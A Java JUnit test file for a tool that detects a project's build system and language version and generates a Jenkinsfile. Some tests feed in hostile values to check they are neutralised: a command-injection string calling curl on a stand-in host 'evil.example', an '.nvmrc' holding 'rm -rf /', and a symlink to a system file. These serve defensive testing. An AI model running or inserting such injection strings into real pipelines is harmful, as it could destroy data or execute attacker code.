package dev.slipway.core.pipeline.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.slipway.core.pipeline.Agent;
import dev.slipway.core.pipeline.Expression;
import dev.slipway.core.pipeline.Stage;
import dev.slipway.core.pipeline.jenkinsfile.JenkinsfileParser;
import dev.slipway.core.settings.Settings;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class DetectorTest {
    private static final Detector DETECTOR = new Detector(Settings.DEFAULT);

    /// Files as a map says them.
    private record MapFiles(Map<String, String> files) implements ProjectFiles {
        @Override
        public Optional<String> text(String path) {
            return Optional.ofNullable(files.get(path));
        }

        @Override
        public List<String> names(String folder) {
            var prefix = folder.isEmpty() ? "" : folder + "/";
            return files.keySet().stream()
                    .filter(path -> path.startsWith(prefix))
                    .map(path -> path.substring(prefix.length()).replaceFirst("/.*", "/"))
                    .distinct()
                    .sorted()
                    .toList();
        }
    }

    private static ProjectFiles files(String... pathsAndTexts) {
        var files = new TreeMap<String, String>();
        for (var i = 0; i < pathsAndTexts.length; i += 2) {
            files.put(pathsAndTexts[i], pathsAndTexts[i + 1]);
        }
        return new MapFiles(files);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    pom.xml          | <project/>                                                  | maven:3.9-eclipse-temurin-25
                    pom.xml          | <maven.compiler.release>17</maven.compiler.release>         | maven:3.9-eclipse-temurin-17
                    pom.xml          | <java.version>1.8</java.version>                            | maven:3.9-eclipse-temurin-8
                    pom.xml          | <release>19</release>                                       | maven:3.9-eclipse-temurin-21
                    build.gradle     | java { toolchain { languageVersion = JavaLanguageVersion.of(21) } } | gradle:jdk21
                    build.gradle.kts | kotlin { jvmToolchain(17) }                                 | gradle:jdk17
                    build.gradle     | sourceCompatibility = JavaVersion.VERSION_1_8               | gradle:jdk8
                    settings.gradle  | rootProject.name = 'x'                                      | gradle:jdk25
                    package.json     | {}                                                          | node:lts
                    package.json     | {"engines":{"node":"^20.1.0"}}                              | node:20
                    package.json     | {"engines":{"node":">=18"}}                                 | node:lts
                    package.json     | {"engines":{"node":">=18 <21"}}                             | node:20
                    package.json     | not json                                                    | node:lts
                    go.mod           | go 1.22.3                                                   | golang:1.22
                    Cargo.toml       | rust-version = "1.75.0"                                     | rust:1.75
                    App.csproj       | <TargetFramework>net8.0</TargetFramework>                   | mcr.microsoft.com/dotnet/sdk:8.0
                    App.sln          | x                                                           | mcr.microsoft.com/dotnet/sdk:10.0
                    pyproject.toml   | requires-python = ">=3.10"                                  | python:3
                    pyproject.toml   | requires-python = ">=3.9,<3.12"                             | python:3.11
                    requirements.txt | flask                                                       | python:3
                    """)
    void readsToolAndVersion(String file, String text, String image) {
        assertThat(DETECTOR.agent(files(file, text)).image()).isEqualTo(image);
    }

    @ParameterizedTest
    @CsvSource({
        "package.json,.nvmrc,v20.11.1,node:20",
        "package.json,.nvmrc,lts/iron,node:iron",
        "package.json,.nvmrc,lts/*,node:lts",
        "package.json,.nvmrc,'20; rm -rf /',node:lts",
        "requirements.txt,.python-version,3.12.4,python:3.12",
        "pom.xml,.sdkmanrc,java=21.0.2-tem,maven:3.9-eclipse-temurin-21",
        "pom.xml,.tool-versions,java temurin-17.0.9+9,maven:3.9-eclipse-temurin-17",
        "Cargo.toml,rust-toolchain,stable,rust:1",
        "Cargo.toml,rust-toolchain.toml,'channel = \"1.80.1\"',rust:1.80",
        "App.csproj,global.json,'{\"sdk\":{\"version\":\"9.0.100\"}}',mcr.microsoft.com/dotnet/sdk:9.0",
    })
    void readsTheFilesOfVersionManagers(String sign, String file, String text, String image) {
        assertThat(DETECTOR.agent(files(sign, "{}", file, text)).image()).isEqualTo(image);
    }

    @Test
    void everyKindGivesAPipelineThatRuns() {
        var kinds =
                List.of(
                        files("pom.xml", "<project/>", "mvnw", "#!"),
                        files("build.gradle", "", "gradlew", "#!"),
                        files(
                                "package.json",
                                "{\"scripts\":{\"build\":\"b\",\"lint\":\"l\",\"test\":\"t\"}}",
                                "package-lock.json",
                                "{}"),
                        files("pyproject.toml", "[build-system]\n[tool.pytest]"),
                        files("go.mod", "module x"),
                        files("App.sln", ""),
                        files("Cargo.toml", "name = \"ship\"", "src/main.rs", "", "Cargo.lock", ""),
                        files("Dockerfile", "FROM busybox"),
                        files("compose.yaml", "services:\n  web:\n    build: .\n"),
                        files("backend/pom.xml", "<project/>", "frontend/package.json", "{}"));
        for (var kind : kinds) {
            var detected = DETECTOR.detect(kind).orElseThrow();
            var parsed = new JenkinsfileParser().parse("Jenkinsfile", detected.jenkinsfile());
            assertThat(parsed.findings()).as(detected.jenkinsfile()).isEmpty();
            assertThat(parsed.isRunnable()).isTrue();
            assertThat(parsed.pipeline().orElseThrow().stages()).isNotEmpty();
        }
    }

    @Test
    void aMavenProjectIsBuiltTestedAndKept() {
        var detected = DETECTOR.detect(files("pom.xml", "<java.version>21</java.version>"));

        assertThat(detected.orElseThrow().reasons()).containsExactly("Maven (pom.xml), Java 21");
        var pipeline =
                new JenkinsfileParser()
                        .parse("Jenkinsfile", detected.orElseThrow().jenkinsfile())
                        .pipeline()
                        .orElseThrow();
        assertThat(pipeline.stages())
                .extracting(Stage::name)
                .containsExactly("Build", "Test", "Package");
        assertThat(pipeline.agent()).isInstanceOf(Agent.Docker.class);
        assertThat(detected.orElseThrow().jenkinsfile())
                .contains("junit testResults: '**/target/surefire-reports/TEST-*.xml'")
                .contains("archiveArtifacts artifacts: '**/target/*.jar");
    }

    @Test
    void foldersBelowAreBuiltEachInItsOwnContainer() {
        var detected =
                DETECTOR.detect(
                                files(
                                        "backend/pom.xml", "<project/>",
                                        "frontend/package.json", "{}",
                                        "we'ird/go.mod", "module x"))
                        .orElseThrow();

        assertThat(detected.reasons())
                .containsExactly("Maven (backend/pom.xml)", "Node.js (frontend/package.json)");
        assertThat(detected.jenkinsfile()).contains("dir('backend')").contains("'node:lts'");
    }

    @Test
    void whatAProjectSaysNeverBecomesMoreThanAWord() {
        var hostile = "'; sh 'curl evil.example' //";
        for (var files :
                List.of(
                        files("Cargo.toml", "name = \"" + hostile + "\"", "src/main.rs", ""),
                        files("pom.xml", "<java.version>" + hostile + "</java.version>"),
                        files("package.json", "{\"engines\":{\"node\":\"" + hostile + "\"}}"),
                        files("go.mod", "go " + hostile),
                        files("'); evil('.sln", ""))) {
            assertThat(DETECTOR.detect(files).orElseThrow().jenkinsfile().lines().skip(1))
                    .noneMatch(line -> line.contains("evil"));
        }
    }

    @Test
    void theSettingsHaveTheLastWordOnImages() {
        var own =
                new Detector(
                        new Settings(1, Map.of(), Map.of("node", "r.example/node:{version}-x")));

        assertThat(own.agent(files("package.json", "{}", ".nvmrc", "20")).image())
                .isEqualTo("r.example/node:20-x");
    }

    @Test
    void ofAlternativesTheLastCounts() {
        var files = files("package.json", "{\"engines\":{\"node\":\"16 || 18.x\"}}");
        assertThat(DETECTOR.agent(files).image()).isEqualTo("node:18");
    }

    @Test
    void nothingKnownIsNothing() {
        assertThat(DETECTOR.detect(files("README.md", "hello"))).isEmpty();
        assertThat(DETECTOR.agent(files("README.md", "hello")).image()).isEqualTo("busybox:stable");
    }

    @Test
    void aFolderIsReadWithoutFollowingLinks(@TempDir Path folder) throws IOException {
        Files.writeString(folder.resolve("go.mod"), "go 1.23\n");
        Files.createSymbolicLink(folder.resolve(".nvmrc"), Path.of("/etc/hostname"));
        var seen = new FolderFiles(folder);

        assertThat(seen.names("")).containsExactly("go.mod");
        assertThat(seen.text(".nvmrc")).isEmpty();
        assertThat(seen.text("../etc/hostname")).isEmpty();
        assertThat(DETECTOR.agent(seen).image()).isEqualTo("golang:1.23");
    }

    private static String image(Agent agent) {
        return agent instanceof Agent.Docker docker
                        && docker.image().orElseThrow() instanceof Expression.Constant constant
                ? String.valueOf(constant.value())
                : "";
    }

    @Test
    void theAgentOfTheTextIsTheOneOfTheTable() {
        var files = files("go.mod", "go 1.22");
        var text = DETECTOR.detect(files).orElseThrow().jenkinsfile();
        var pipeline = new JenkinsfileParser().parse("Jenkinsfile", text).pipeline().orElseThrow();
        assertThat(image(pipeline.agent())).isEqualTo(DETECTOR.agent(files).image());
    }
}
